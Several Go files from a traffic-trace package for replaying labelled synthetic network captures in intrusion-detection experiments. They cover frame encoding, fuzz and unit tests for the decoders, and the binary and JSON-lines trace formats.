	if got, want := crc32.ChecksumIEEE(payload), binary.BigEndian.Uint32(crcBuf[:]); got != want {
		return Frame{}, fr.fail(ord, start,
			fmt.Errorf("frame checksum mismatch: computed %08x, header says %08x", got, want))
	}

	fr.off = start + frameHeaderLen + int64(need) + frameTrailerLen
	fr.lastOrd = ord
	return Frame{Type: typ, Ordinal: ord, Payload: payload}, nil
}

// ErrFrameTooLarge is returned by FrameWriter for oversized payloads.
var ErrFrameTooLarge = errors.New("trace: frame payload exceeds MaxFramePayload")

// FrameWriter encodes frames, assembling each into one buffer so a
// frame reaches the underlying writer in a single Write call. Not safe
// for concurrent use; callers serialize (the daemon holds a per-
// connection write lock).
type FrameWriter struct {
	w   io.Writer
	buf []byte
}

// NewFrameWriter wraps w.
func NewFrameWriter(w io.Writer) *FrameWriter { return &FrameWriter{w: w} }

// Write encodes and sends one frame.
func (fw *FrameWriter) Write(typ byte, ordinal uint32, payload []byte) error {
	if len(payload) > MaxFramePayload {
		return ErrFrameTooLarge
	}
	total := frameHeaderLen + len(payload) + frameTrailerLen
	if cap(fw.buf) < total {
		fw.buf = make([]byte, total)
	}
	b := fw.buf[:total]
	copy(b, frameMagic)
	b[4] = typ
	binary.BigEndian.PutUint32(b[5:9], ordinal)
	binary.BigEndian.PutUint32(b[9:13], uint32(len(payload)))
	copy(b[frameHeaderLen:], payload)
	binary.BigEndian.PutUint32(b[frameHeaderLen+len(payload):], crc32.ChecksumIEEE(payload))
	if _, err := fw.w.Write(b); err != nil {
		return fmt.Errorf("trace: writing frame %d: %w", ordinal, err)
	}
	return nil
}
