package trace

import (
	"bytes"
	"errors"
	"io"
	"testing"
	"time"

	"repro/internal/attack"
	"repro/internal/packet"
)

// FuzzReadTrace drives both trace decoders — the v1 in-memory reader and
// the v2 chunked stream reader — over arbitrary input. Neither may
// panic, hang, or allocate unboundedly; malformed input must surface as
// an error. Valid inputs that decode must re-encode and decode to the
// same record count (a cheap internal-consistency invariant that needs
// no reference decoder).
func FuzzReadTrace(f *testing.F) {
	// Seed corpus: a real v1 trace, a real v2 stream (two chunk sizes),
	// an empty v2 stream, assorted truncations, and plain garbage.
	tr := fuzzSeedTrace()
	var v1 bytes.Buffer
	if err := tr.WriteBinary(&v1); err != nil {
		f.Fatal(err)
	}
	var v2 bytes.Buffer
	if err := tr.WriteStream(&v2); err != nil {
		f.Fatal(err)
	}
	var v2small bytes.Buffer
	sw, err := NewWriter(&v2small, tr.Profile, tr.Seed)
	if err != nil {
		f.Fatal(err)
	}
	sw.SetChunkRecords(3)
	for _, r := range tr.Records {
		if err := sw.Append(r.At, r.Pk); err != nil {
			f.Fatal(err)
		}
	}
	sw.SetIncidents(tr.Incidents)
	if err := sw.Close(); err != nil {
		f.Fatal(err)
	}
	var v2empty bytes.Buffer
	ew, _ := NewWriter(&v2empty, "", 0)
	if err := ew.Close(); err != nil {
		f.Fatal(err)
	}

	f.Add(v1.Bytes())
	f.Add(v2.Bytes())
	f.Add(v2small.Bytes())
	f.Add(v2empty.Bytes())
	for _, n := range []int{0, 4, 10, 17, 40} {
		if n < v1.Len() {
			f.Add(v1.Bytes()[:n])
		}
		if n < v2.Len() {
			f.Add(v2.Bytes()[:n])
		}
	}
	f.Add(v2.Bytes()[:v2.Len()-trailerLen]) // no trailer: sequential-scan path
	f.Add([]byte("IDT2 but not really a trace"))
	f.Add([]byte("IDTR nor this"))
	f.Add([]byte{0xff, 0xfe, 0xfd})

	// Mutated seeds: single-byte corruptions of valid streams at
	// positions landing in the header, chunk bodies, the footer index,
	// and the trailer. Each must fail (or decode) without panicking or
	// allocating per the corrupt value.
	flip := func(b []byte, pos int) []byte {
		m := append([]byte(nil), b...)
		m[pos%len(m)] ^= 0xff
		return m
	}
	for _, pos := range []int{5, headerFixedLen + 3, v2.Len() / 3, v2.Len() / 2,
		v2.Len() - trailerLen - 9, v2.Len() - 3} {
		f.Add(flip(v2.Bytes(), pos))
		f.Add(flip(v2small.Bytes(), pos))
	}
	// Zero the first chunk's record-count varint (implausible-count path)
	// and max it out (count-vs-region plausibility path).
	firstChunkPayload := headerFixedLen + len(tr.Profile) + 5
	zeroed := append([]byte(nil), v2small.Bytes()...)
	zeroed[firstChunkPayload] = 0
	f.Add(zeroed)
	maxed := append([]byte(nil), v2small.Bytes()...)
	maxed[firstChunkPayload] = 0xff
	f.Add(maxed)

	f.Fuzz(func(t *testing.T, data []byte) {
		// Compatibility shim: dispatches on magic, must never panic.
		if tr, err := ReadBinary(bytes.NewReader(data)); err == nil {
			checkReencode(t, tr)
		}
		// Stream reader, seekable path (footer index + SeekTo).
		if rd, err := NewReader(bytes.NewReader(data)); err == nil {
			n, clean := 0, false
			for {
				c, err := rd.Next()
				if err != nil {
					clean = err == io.EOF
					break
				}
				n += len(c.Records)
				c.Release()
			}
			// The footer/body consistency invariant only holds for scans
			// that reached a clean EOF; a mid-stream decode error leaves
			// the count legitimately short.
			if st, ok := rd.Stats(); ok && clean && rd.rs != nil && st.Packets != uint64(n) {
				t.Fatalf("footer claims %d packets, decoded %d", st.Packets, n)
			}
			_ = rd.Incidents()
		}
		// Stream reader, sequential path (no seeking, no footer).
		if rd, err := NewReader(nonSeeker{bytes.NewReader(data)}); err == nil {
			for {
				c, err := rd.Next()
				if err != nil {
					break
				}
				c.Release()
			}
		}
	})
}

// FuzzServeFrameDecode drives the network frame decoder — the byte
// stream idsevald trusts least — over arbitrary input. The decoder may
// never panic, hang, or allocate past its growth-step bound; every
// failure must be a *FrameDecodeError carrying a sane position, and
// frames that do decode must survive a write/read round trip.
func FuzzServeFrameDecode(f *testing.F) {
	enc := func(typ byte, ord uint32, payload []byte) []byte {
		var buf bytes.Buffer
		if err := NewFrameWriter(&buf).Write(typ, ord, payload); err != nil {
			f.Fatal(err)
		}
		return buf.Bytes()
	}
	hello := enc(FrameHello, 0, []byte(`{"name":"s1","seed":7}`))
	data := enc(FrameData, 1, bytes.Repeat([]byte{0x42}, 300))
	finish := enc(FrameFinish, 2, []byte(`{"chunks":2,"bytes":300}`))
	dialogue := append(append(append([]byte{}, hello...), data...), finish...)

	f.Add(dialogue)
	f.Add(hello)
	f.Add(enc(FrameData, 0, nil)) // empty payload
	for _, n := range []int{0, 3, 4, 5, 9, 12, 13, len(hello) - 1} {
		if n < len(hello) {
			f.Add(hello[:n])
		}
	}
	f.Add(dialogue[:len(hello)+7]) // torn mid-second-frame
	flip := func(b []byte, pos int) []byte {
		m := append([]byte(nil), b...)
		m[pos%len(m)] ^= 0xff
		return m
	}
	for _, pos := range []int{0, 4, 6, 10, 15, len(hello) - 2} {
		f.Add(flip(dialogue, pos))
	}
	// Length field lies: claims far more than follows.
	lying := append([]byte(nil), data...)
	lying[9], lying[10] = 0x03, 0xff
	f.Add(lying)
	f.Add([]byte("ISF2"))
	f.Add([]byte{0xff, 0xfe, 0xfd, 0xfc, 0xfb})

	f.Fuzz(func(t *testing.T, in []byte) {
		fr := NewFrameReader(bytes.NewReader(in), 1<<20)
		for {
			frm, err := fr.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				var de *FrameDecodeError
				if !errors.As(err, &de) {
					t.Fatalf("decode error is not a FrameDecodeError: %v", err)
				}
				if de.Offset < 0 || de.Offset > int64(len(in)) {
					t.Fatalf("decode error offset %d outside input of %d bytes", de.Offset, len(in))
				}
				break
			}
			if cap(fr.buf) > len(frm.Payload)+2*frameReadStep {
				t.Fatalf("buffer cap %d far exceeds payload %d", cap(fr.buf), len(frm.Payload))
			}
			// Round trip: what decoded must re-encode to re-decodable bytes.
			var buf bytes.Buffer
			if err := NewFrameWriter(&buf).Write(frm.Type, frm.Ordinal, frm.Payload); err != nil {
				t.Fatalf("re-encode: %v", err)
			}
			back, err := NewFrameReader(bytes.NewReader(buf.Bytes()), 0).Next()
			if err != nil {
				t.Fatalf("re-decode: %v", err)
			}
			if back.Type != frm.Type || back.Ordinal != frm.Ordinal || !bytes.Equal(back.Payload, frm.Payload) {
				t.Fatal("frame round trip changed contents")
			}
		}
	})
}

// checkReencode round-trips a successfully decoded trace through the v2
// encoder and requires the result to decode to the same shape.
func checkReencode(t *testing.T, tr *Trace) {
	t.Helper()
	var buf bytes.Buffer
	if err := tr.WriteStream(&buf); err != nil {
		// Decoded traces can still be unencodable (e.g. an oversized
		// profile string from a hostile v1 file); an error is fine.
		return
	}
	rd, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("re-decode of re-encoded trace failed: %v", err)
	}
	n := 0
	for {
		c, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("re-decode chunk: %v", err)
		}
		n += len(c.Records)
		c.Release()
	}
	if n != len(tr.Records) {
		t.Fatalf("re-encode changed record count: %d -> %d", len(tr.Records), n)
	}
}

// fuzzSeedTrace builds a small hand-rolled trace exercising the format's
// branches: payloads and empty payloads, truth labels with shared and
// distinct attack IDs, TCP and UDP, equal timestamps.
func fuzzSeedTrace() *Trace {
	tr := &Trace{Profile: "fuzz-seed", Seed: 3}
	at := []time.Duration{0, time.Millisecond, time.Millisecond, 5 * time.Millisecond,
		time.Second, time.Second + 1, 2 * time.Second, 3 * time.Second}
	for i, t := range at {
		p := &packet.Packet{
			Seq:     uint64(i + 1),
			Src:     packet.IPv4(10, 1, 1, byte(i%3+1)),
			Dst:     packet.IPv4(203, 0, 1, 1),
			SrcPort: uint16(40000 + i),
			DstPort: 443,
			Proto:   packet.ProtoTCP,
			Flags:   packet.ACK,
			TTL:     64,
			Sent:    t,
		}
		switch i % 4 {
		case 0:
			p.Payload = []byte("GET / HTTP/1.1\r\n")
		case 1:
			p.Proto = packet.ProtoUDP
			p.Flags = 0
		case 2:
			p.Truth = packet.Label{Malicious: true, AttackID: "scan-1", Technique: "portscan"}
		case 3:
			p.Truth = packet.Label{Malicious: true, AttackID: "exp-2", Technique: "exploit"}
			p.Payload = bytes.Repeat([]byte{0x90}, 64)
		}
		if err := tr.Append(t, p); err != nil {
			panic(err)
		}
	}
	tr.Incidents = []attack.Incident{
		{ID: "scan-1", Technique: "portscan", Start: time.Millisecond, Duration: time.Second, Packets: 2,
			Attacker: packet.IPv4(203, 0, 1, 1), Victim: packet.IPv4(10, 1, 1, 1)},
		{ID: "exp-2", Technique: "exploit", Start: time.Second, Duration: 2 * time.Second, Packets: 2,
			Attacker: packet.IPv4(203, 0, 1, 1), Victim: packet.IPv4(10, 1, 1, 2)},
	}
	return tr
}
