package trace

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"testing"
)

// encodeFrame builds one wire frame for tests.
func encodeFrame(t *testing.T, typ byte, ord uint32, payload []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	fw := NewFrameWriter(&buf)
	if err := fw.Write(typ, ord, payload); err != nil {
		t.Fatalf("Write: %v", err)
	}
	return buf.Bytes()
}

func TestFrameRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	fw := NewFrameWriter(&buf)
	payloads := [][]byte{
		[]byte(`{"name":"s1"}`),
		bytes.Repeat([]byte{0xAB}, 200_000), // forces multiple read steps
		{},
		[]byte("tail"),
	}
	types := []byte{FrameHello, FrameData, FrameFinish, FrameData}
	for i, p := range payloads {
		if err := fw.Write(types[i], uint32(i), p); err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
	}

	fr := NewFrameReader(&buf, 0)
	for i, want := range payloads {
		f, err := fr.Next()
		if err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
		if f.Type != types[i] || f.Ordinal != uint32(i) || !bytes.Equal(f.Payload, want) {
			t.Fatalf("frame %d: got type=%d ord=%d len=%d", i, f.Type, f.Ordinal, len(f.Payload))
		}
	}
	if _, err := fr.Next(); err != io.EOF {
		t.Fatalf("want io.EOF at end, got %v", err)
	}
}

func TestFrameErrorsCarryOrdinalAndOffset(t *testing.T) {
	first := encodeFrame(t, FrameData, 7, []byte("first frame payload"))

	t.Run("truncated payload", func(t *testing.T) {
		second := encodeFrame(t, FrameData, 8, []byte("second payload, cut short"))
		wire := append(append([]byte{}, first...), second[:len(second)-10]...)
		fr := NewFrameReader(bytes.NewReader(wire), 0)
		if _, err := fr.Next(); err != nil {
			t.Fatalf("first frame: %v", err)
		}
		_, err := fr.Next()
		var de *FrameDecodeError
		if !errors.As(err, &de) {
			t.Fatalf("want FrameDecodeError, got %v", err)
		}
		if de.Ordinal != 8 {
			t.Fatalf("ordinal = %d, want 8", de.Ordinal)
		}
		if de.Offset != int64(len(first)) {
			t.Fatalf("offset = %d, want %d", de.Offset, len(first))
		}
		if !strings.Contains(err.Error(), "frame 8 at byte") {
			t.Fatalf("error does not surface position: %v", err)
		}
	})

	t.Run("torn header names last good frame", func(t *testing.T) {
		wire := append(append([]byte{}, first...), 'I', 'S') // 2 stray bytes
		fr := NewFrameReader(bytes.NewReader(wire), 0)
		if _, err := fr.Next(); err != nil {
			t.Fatalf("first frame: %v", err)
		}
		_, err := fr.Next()
		var de *FrameDecodeError
		if !errors.As(err, &de) {
			t.Fatalf("want FrameDecodeError, got %v", err)
		}
		if de.Ordinal != 7 || de.Offset != int64(len(first)) {
			t.Fatalf("got ord=%d off=%d, want 7/%d", de.Ordinal, de.Offset, len(first))
		}
	})

	t.Run("checksum mismatch", func(t *testing.T) {
		wire := append([]byte{}, first...)
		wire[len(wire)-1] ^= 0xFF
		fr := NewFrameReader(bytes.NewReader(wire), 0)
		_, err := fr.Next()
		if err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
			t.Fatalf("want checksum error, got %v", err)
		}
	})

	t.Run("bad magic", func(t *testing.T) {
		wire := append([]byte{}, first...)
		wire[0] = 'X'
		fr := NewFrameReader(bytes.NewReader(wire), 0)
		_, err := fr.Next()
		if err == nil || !strings.Contains(err.Error(), "bad frame magic") {
			t.Fatalf("want magic error, got %v", err)
		}
	})
}

func TestFrameLengthCapRejectedWithoutAllocation(t *testing.T) {
	// A header claiming an over-cap payload must be rejected from the
	// header alone.
	var hdr [frameHeaderLen]byte
	copy(hdr[:], frameMagic)
	hdr[4] = FrameData
	binary.BigEndian.PutUint32(hdr[5:9], 3)
	binary.BigEndian.PutUint32(hdr[9:13], uint32(MaxFramePayload)+1)
	fr := NewFrameReader(bytes.NewReader(hdr[:]), 0)
	_, err := fr.Next()
	if err == nil || !strings.Contains(err.Error(), "exceeds cap") {
		t.Fatalf("want cap error, got %v", err)
	}

	// A tighter reader-side cap applies even to payloads under the
	// global ceiling.
	frame := encodeFrame(t, FrameData, 0, make([]byte, 2048))
	fr = NewFrameReader(bytes.NewReader(frame), 1024)
	if _, err := fr.Next(); err == nil || !strings.Contains(err.Error(), "exceeds cap") {
		t.Fatalf("want cap error from tight reader, got %v", err)
	}
}

func TestFrameLyingLengthCostsOnlyReceivedBytes(t *testing.T) {
	// Header claims 32 MiB but the connection dies after 1 KiB. The
	// reader must fail with a truncation error having buffered at most
	// one growth step past what actually arrived — not 32 MiB.
	var hdr [frameHeaderLen]byte
	copy(hdr[:], frameMagic)
	hdr[4] = FrameData
	binary.BigEndian.PutUint32(hdr[5:9], 1)
	binary.BigEndian.PutUint32(hdr[9:13], 32<<20)
	wire := append(hdr[:], make([]byte, 1024)...)
	fr := NewFrameReader(bytes.NewReader(wire), 0)
	_, err := fr.Next()
	if err == nil || !strings.Contains(err.Error(), "truncated frame payload") {
		t.Fatalf("want truncation error, got %v", err)
	}
	if cap(fr.buf) > 2*frameReadStep {
		t.Fatalf("reader buffered %d bytes for a lying length; cap is %d", cap(fr.buf), 2*frameReadStep)
	}
}

func TestFrameWriterRejectsOversizedPayload(t *testing.T) {
	fw := NewFrameWriter(io.Discard)
	err := fw.Write(FrameData, 0, make([]byte, MaxFramePayload+1))
	if !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("want ErrFrameTooLarge, got %v", err)
	}
}
