// Package trace records and replays canned traffic. The paper's
// methodology depends on replayable data with known attack content
// (Section 4, Lesson 2): the observed false-negative ratio is unmeasurable
// against live traffic because an undetected attack is, by definition,
// invisible. A Trace pairs a packet timeline with a ground-truth incident
// sidecar; Replay feeds it back through any emit path at original or
// scaled pacing.
//
// Two encodings are provided: a compact binary format (magic "IDTR") for
// large benchmark traces, and JSON-lines for human inspection and
// interchange.
package trace

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"time"

	"repro/internal/attack"
	"repro/internal/packet"
	"repro/internal/simtime"
)

// Record is one packet observation: the packet plus its timeline position.
type Record struct {
	At time.Duration
	Pk *packet.Packet
}

// Trace is an ordered packet timeline with attack ground truth.
type Trace struct {
	// Records are sorted by At (Append enforces monotonicity).
	Records []Record
	// Incidents is the ground-truth sidecar.
	Incidents []attack.Incident
	// Profile names the background workload the trace was generated from.
	Profile string
	// Seed reproduces the generation run.
	Seed int64
}

// Append adds a record, enforcing time order.
func (t *Trace) Append(at time.Duration, p *packet.Packet) error {
	if n := len(t.Records); n > 0 && at < t.Records[n-1].At {
		return fmt.Errorf("trace: record at %v violates time order (last %v)", at, t.Records[n-1].At)
	}
	t.Records = append(t.Records, Record{At: at, Pk: p})
	return nil
}

// Duration returns the trace's time span.
func (t *Trace) Duration() time.Duration {
	if len(t.Records) == 0 {
		return 0
	}
	return t.Records[len(t.Records)-1].At - t.Records[0].At
}

// Stats summarizes the trace for reports.
type Stats struct {
	Packets        int
	Bytes          int
	MaliciousPkts  int
	Incidents      int
	Duration       time.Duration
	AvgPps         float64
	DistinctAddrs  int
	PayloadPackets int
}

// Summarize computes Stats.
func (t *Trace) Summarize() Stats {
	var s Stats
	s.Packets = len(t.Records)
	s.Incidents = len(t.Incidents)
	s.Duration = t.Duration()
	addrs := make(map[packet.Addr]bool)
	for _, r := range t.Records {
		s.Bytes += r.Pk.WireLen()
		if r.Pk.Truth.Malicious {
			s.MaliciousPkts++
		}
		if len(r.Pk.Payload) > 0 {
			s.PayloadPackets++
		}
		addrs[r.Pk.Src] = true
		addrs[r.Pk.Dst] = true
	}
	s.DistinctAddrs = len(addrs)
	if s.Duration > 0 {
		s.AvgPps = float64(s.Packets) / s.Duration.Seconds()
	}
	return s
}

// Recorder captures packets into a Trace; plug its Emit into a generator
// or a netsim tap.
type Recorder struct {
	sim *simtime.Sim
	t   *Trace
}

// NewRecorder creates a recorder stamping records with sim's clock.
func NewRecorder(sim *simtime.Sim, profile string) *Recorder {
	return &Recorder{sim: sim, t: &Trace{Profile: profile, Seed: sim.Seed()}}
}

// Emit records one packet at the current virtual time.
func (r *Recorder) Emit(p *packet.Packet) {
	// Generators emit in nondecreasing virtual time, so Append cannot fail.
	if err := r.t.Append(r.sim.Now(), p); err != nil {
		panic(err)
	}
}

// SetIncidents attaches the ground-truth sidecar.
func (r *Recorder) SetIncidents(incs []attack.Incident) { r.t.Incidents = incs }

// Trace returns the captured trace.
func (r *Recorder) Trace() *Trace { return r.t }

// Replay schedules every record of t onto sim, offset so the first record
// fires at start, with inter-packet gaps scaled by 1/speedup (speedup 2
// replays twice as fast; 0 or 1 preserves original pacing). Each packet is
// delivered through emit.
func Replay(sim *simtime.Sim, t *Trace, start time.Duration, speedup float64, emit func(p *packet.Packet)) error {
	if emit == nil {
		return errors.New("trace: nil emit")
	}
	if speedup <= 0 {
		speedup = 1
	}
	if len(t.Records) == 0 {
		return nil
	}
	base := t.Records[0].At
	for _, rec := range t.Records {
		rec := rec
		at := start + time.Duration(float64(rec.At-base)/speedup)
		if _, err := sim.ScheduleAt(at, func() { emit(rec.Pk) }); err != nil {
			return err
		}
	}
	return nil
}

// ---- binary encoding ----

const (
	magic   = 0x49445452 // "IDTR"
	version = 1
)

// WriteBinary serializes the trace in the compact binary format.
func (t *Trace) WriteBinary(w io.Writer) error {
	bw := bufio.NewWriter(w)
	hdr := make([]byte, 16)
	binary.BigEndian.PutUint32(hdr[0:4], magic)
	binary.BigEndian.PutUint32(hdr[4:8], version)
	binary.BigEndian.PutUint64(hdr[8:16], uint64(len(t.Records)))
	if _, err := bw.Write(hdr); err != nil {
		return err
	}
	writeStr := func(s string) error {
		if len(s) > 0xFFFF {
			return fmt.Errorf("trace: string too long (%d)", len(s))
		}
		var lb [2]byte
		binary.BigEndian.PutUint16(lb[:], uint16(len(s)))
		if _, err := bw.Write(lb[:]); err != nil {
			return err
		}
		_, err := bw.WriteString(s)
		return err
	}
	if err := writeStr(t.Profile); err != nil {
		return err
	}
	var seedBuf [8]byte
	binary.BigEndian.PutUint64(seedBuf[:], uint64(t.Seed))
	if _, err := bw.Write(seedBuf[:]); err != nil {
		return err
	}
	rec := make([]byte, 40)
	for _, r := range t.Records {
		p := r.Pk
		binary.BigEndian.PutUint64(rec[0:8], uint64(r.At))
		binary.BigEndian.PutUint64(rec[8:16], p.Seq)
		binary.BigEndian.PutUint64(rec[16:24], uint64(p.Sent))
		binary.BigEndian.PutUint32(rec[24:28], uint32(p.Src))
		binary.BigEndian.PutUint32(rec[28:32], uint32(p.Dst))
		binary.BigEndian.PutUint16(rec[32:34], p.SrcPort)
		binary.BigEndian.PutUint16(rec[34:36], p.DstPort)
		rec[36] = byte(p.Proto)
		rec[37] = byte(p.Flags)
		rec[38] = p.TTL
		if p.Truth.Malicious {
			rec[39] = 1
		} else {
			rec[39] = 0
		}
		if _, err := bw.Write(rec); err != nil {
			return err
		}
		if p.Truth.Malicious {
			if err := writeStr(p.Truth.AttackID); err != nil {
				return err
			}
			if err := writeStr(p.Truth.Technique); err != nil {
				return err
			}
		}
		var lb [4]byte
		binary.BigEndian.PutUint32(lb[:], uint32(len(p.Payload)))
		if _, err := bw.Write(lb[:]); err != nil {
			return err
		}
		if _, err := bw.Write(p.Payload); err != nil {
			return err
		}
	}
	// Incident sidecar.
	var ib [4]byte
	binary.BigEndian.PutUint32(ib[:], uint32(len(t.Incidents)))
	if _, err := bw.Write(ib[:]); err != nil {
		return err
	}
	inc := make([]byte, 36)
	for _, in := range t.Incidents {
		if err := writeStr(in.ID); err != nil {
			return err
		}
		if err := writeStr(in.Technique); err != nil {
			return err
		}
		binary.BigEndian.PutUint64(inc[0:8], uint64(in.Start))
		binary.BigEndian.PutUint64(inc[8:16], uint64(in.Duration))
		binary.BigEndian.PutUint64(inc[16:24], uint64(in.Packets))
		binary.BigEndian.PutUint32(inc[24:28], uint32(in.Attacker))
		binary.BigEndian.PutUint32(inc[28:32], uint32(in.Victim))
		binary.BigEndian.PutUint32(inc[32:36], 0) // reserved
		if _, err := bw.Write(inc); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadBinary parses a binary trace in either encoding, detecting the v1
// ("IDTR") and v2 ("IDT2") formats by magic. The whole trace is
// materialized in memory; use NewReader for O(chunk) streaming of v2
// traces.
func ReadBinary(r io.Reader) (*Trace, error) {
	br := bufio.NewReader(r)
	if m, err := br.Peek(4); err == nil && binary.BigEndian.Uint32(m) == magic2 {
		return readStreamAll(br)
	}
	hdr := make([]byte, 16)
	if _, err := io.ReadFull(br, hdr); err != nil {
		return nil, fmt.Errorf("trace: header: %w", err)
	}
	if binary.BigEndian.Uint32(hdr[0:4]) != magic {
		return nil, errors.New("trace: bad magic")
	}
	if v := binary.BigEndian.Uint32(hdr[4:8]); v != version {
		return nil, fmt.Errorf("trace: unsupported version %d", v)
	}
	n := binary.BigEndian.Uint64(hdr[8:16])
	const maxRecords = 1 << 28
	if n > maxRecords {
		return nil, fmt.Errorf("trace: implausible record count %d", n)
	}
	// A record is at least 44 bytes on the wire; when the source's total
	// size is knowable (in-memory readers, seekable files), a count that
	// could not possibly fit the remaining input is rejected before any
	// allocation is sized from it.
	const minRecordLen = 44
	if rem, ok := remainingBytes(br, r); ok && n > uint64(rem)/minRecordLen+1 {
		return nil, fmt.Errorf("trace: record count %d exceeds remaining input (%d bytes)", n, rem)
	}
	readStr := func() (string, error) {
		var lb [2]byte
		if _, err := io.ReadFull(br, lb[:]); err != nil {
			return "", err
		}
		b := make([]byte, binary.BigEndian.Uint16(lb[:]))
		if _, err := io.ReadFull(br, b); err != nil {
			return "", err
		}
		return string(b), nil
	}
	t := &Trace{}
	var err error
	if t.Profile, err = readStr(); err != nil {
		return nil, fmt.Errorf("trace: profile: %w", err)
	}
	var seedBuf [8]byte
	if _, err := io.ReadFull(br, seedBuf[:]); err != nil {
		return nil, fmt.Errorf("trace: seed: %w", err)
	}
	t.Seed = int64(binary.BigEndian.Uint64(seedBuf[:]))
	rec := make([]byte, 40)
	// Preallocation is capped so a corrupt count cannot demand gigabytes
	// up front; the slice grows normally past the cap.
	t.Records = make([]Record, 0, minU64(n, 1<<16))
	for i := uint64(0); i < n; i++ {
		if _, err := io.ReadFull(br, rec); err != nil {
			return nil, fmt.Errorf("trace: record %d: %w", i, err)
		}
		p := &packet.Packet{
			Seq:     binary.BigEndian.Uint64(rec[8:16]),
			Sent:    time.Duration(binary.BigEndian.Uint64(rec[16:24])),
			Src:     packet.Addr(binary.BigEndian.Uint32(rec[24:28])),
			Dst:     packet.Addr(binary.BigEndian.Uint32(rec[28:32])),
			SrcPort: binary.BigEndian.Uint16(rec[32:34]),
			DstPort: binary.BigEndian.Uint16(rec[34:36]),
			Proto:   packet.Proto(rec[36]),
			Flags:   packet.TCPFlags(rec[37]),
			TTL:     rec[38],
		}
		at := time.Duration(binary.BigEndian.Uint64(rec[0:8]))
		if rec[39] == 1 {
			p.Truth.Malicious = true
			if p.Truth.AttackID, err = readStr(); err != nil {
				return nil, fmt.Errorf("trace: record %d attack id: %w", i, err)
			}
			if p.Truth.Technique, err = readStr(); err != nil {
				return nil, fmt.Errorf("trace: record %d technique: %w", i, err)
			}
		}
		var lb [4]byte
		if _, err := io.ReadFull(br, lb[:]); err != nil {
			return nil, fmt.Errorf("trace: record %d payload len: %w", i, err)
		}
		plen := binary.BigEndian.Uint32(lb[:])
		const maxPayload = 1 << 20
		if plen > maxPayload {
			return nil, fmt.Errorf("trace: record %d payload %d exceeds limit", i, plen)
		}
		if plen > 0 {
			p.Payload = make([]byte, plen)
			if _, err := io.ReadFull(br, p.Payload); err != nil {
				return nil, fmt.Errorf("trace: record %d payload: %w", i, err)
			}
		}
		t.Records = append(t.Records, Record{At: at, Pk: p})
	}
	var ib [4]byte
	if _, err := io.ReadFull(br, ib[:]); err != nil {
		return nil, fmt.Errorf("trace: incident count: %w", err)
	}
	ni := binary.BigEndian.Uint32(ib[:])
	inc := make([]byte, 36)
	for i := uint32(0); i < ni; i++ {
		var in attack.Incident
		if in.ID, err = readStr(); err != nil {
			return nil, fmt.Errorf("trace: incident %d id: %w", i, err)
		}
		if in.Technique, err = readStr(); err != nil {
			return nil, fmt.Errorf("trace: incident %d technique: %w", i, err)
		}
		if _, err := io.ReadFull(br, inc); err != nil {
			return nil, fmt.Errorf("trace: incident %d: %w", i, err)
		}
		in.Start = time.Duration(binary.BigEndian.Uint64(inc[0:8]))
		in.Duration = time.Duration(binary.BigEndian.Uint64(inc[8:16]))
		in.Packets = int(binary.BigEndian.Uint64(inc[16:24]))
		in.Attacker = packet.Addr(binary.BigEndian.Uint32(inc[24:28]))
		in.Victim = packet.Addr(binary.BigEndian.Uint32(inc[28:32]))
		t.Incidents = append(t.Incidents, in)
	}
	return t, nil
}

// ---- JSON-lines encoding ----

// jsonRecord is the JSONL wire form of one record.
type jsonRecord struct {
	AtNs      int64  `json:"at_ns"`
	SentNs    int64  `json:"sent_ns,omitempty"`
	Seq       uint64 `json:"seq"`
	Src       string `json:"src"`
	Dst       string `json:"dst"`
	SrcPort   uint16 `json:"sport"`
	DstPort   uint16 `json:"dport"`
	Proto     uint8  `json:"proto"`
	Flags     string `json:"flags,omitempty"`
	TTL       uint8  `json:"ttl"`
	Payload   []byte `json:"payload,omitempty"`
	Malicious bool   `json:"malicious,omitempty"`
	AttackID  string `json:"attack_id,omitempty"`
	Technique string `json:"technique,omitempty"`
}

// WriteJSONL writes one JSON object per record. Ground truth and the
// incident sidecar are included in a trailing meta object.
func (t *Trace) WriteJSONL(w io.Writer) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, r := range t.Records {
		p := r.Pk
		jr := jsonRecord{
			AtNs: int64(r.At), SentNs: int64(p.Sent), Seq: p.Seq,
			Src: p.Src.String(), Dst: p.Dst.String(),
			SrcPort: p.SrcPort, DstPort: p.DstPort,
			Proto: uint8(p.Proto), TTL: p.TTL, Payload: p.Payload,
			Malicious: p.Truth.Malicious, AttackID: p.Truth.AttackID,
			Technique: p.Truth.Technique,
		}
		if p.Proto == packet.ProtoTCP {
			jr.Flags = p.Flags.String()
		}
		if err := enc.Encode(jr); err != nil {
			return err
		}
	}
	meta := struct {
		Meta      string            `json:"meta"`
		Profile   string            `json:"profile"`
		Seed      int64             `json:"seed"`
		Incidents []attack.Incident `json:"incidents"`
	}{Meta: "trailer", Profile: t.Profile, Seed: t.Seed, Incidents: t.Incidents}
	if err := enc.Encode(meta); err != nil {
		return err
	}
	return bw.Flush()
}
