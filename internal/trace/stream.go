// IDT2: the streaming chunked binary trace encoding.
//
// The v1 format ("IDTR") materializes a whole capture as one []Record of
// individually heap-allocated packets before a single packet replays,
// which puts O(capture) memory on the critical path of every accuracy
// measurement. IDT2 groups records into fixed-size chunks (~4096 records)
// so that trace I/O is O(chunk): each chunk carries varint-delta
// timestamps, a per-chunk string table for ground-truth labels, and one
// contiguous payload arena that decoded packets slice into — zero payload
// copies and a constant number of allocations per chunk instead of per
// packet. A footer indexes every chunk's file offset and time bounds,
// enabling time-range seek on any io.ReadSeeker, and carries the
// ground-truth incident sidecar plus whole-trace summary statistics so a
// streaming consumer can size its testbed before the first chunk decodes.
//
// See DESIGN.md §8 for the wire layout and the reader's concurrency
// contract.
package trace

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
